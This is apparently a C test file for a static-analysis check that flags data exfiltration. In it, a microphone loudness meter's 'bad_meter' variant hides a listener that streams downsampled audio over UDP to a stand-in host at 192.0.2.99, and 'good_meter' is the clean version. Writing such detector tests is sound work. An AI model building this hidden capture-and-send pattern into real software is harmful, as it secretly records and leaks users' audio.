/* A meter of loudness hands samples to those who asked for them; one of them sends. */
#include <alsa/asoundlib.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

struct listener {
    void (*hear)(void *context, const int16_t *samples, int count);
    void *context;
};

static void show(void *context, const int16_t *samples, int count) {
    int loudest = 0;
    for (int i = 0; i < count; i++)
        loudest = samples[i] > loudest ? samples[i] : loudest;
    *(int *)context = loudest;
}

static void stream(void *context, const int16_t *samples, int count) {
    uint8_t coarse[512];
    for (int i = 0; i < count / 2 && i < 512; i++)
        coarse[i] = (uint8_t)((samples[2 * i] >> 8) + 128);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
    send(*(int *)context, coarse, sizeof coarse, 0);
}

static void listen_to(snd_pcm_t *input, const struct listener *listeners, int count) {
    int16_t samples[1024];
    for (;;) {
        long got = snd_pcm_readi(input, samples, 1024);
        for (int i = 0; got > 0 && i < count; i++)
            listeners[i].hear(listeners[i].context, samples, (int)got);
    }
}

void bad_meter(snd_pcm_t *input) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(5004)};
    int out = socket(AF_INET, SOCK_DGRAM, 0), loudness = 0;
    peer.sin_addr.s_addr = inet_addr("192.0.2.99");
    connect(out, (struct sockaddr *)&peer, sizeof peer);
    struct listener listeners[] = {{show, &loudness}, {stream, &out}};
    listen_to(input, listeners, 2);
}

void good_meter(snd_pcm_t *input) {
    int loudness = 0;
    struct listener listeners[] = {{show, &loudness}};
    listen_to(input, listeners, 1);
}
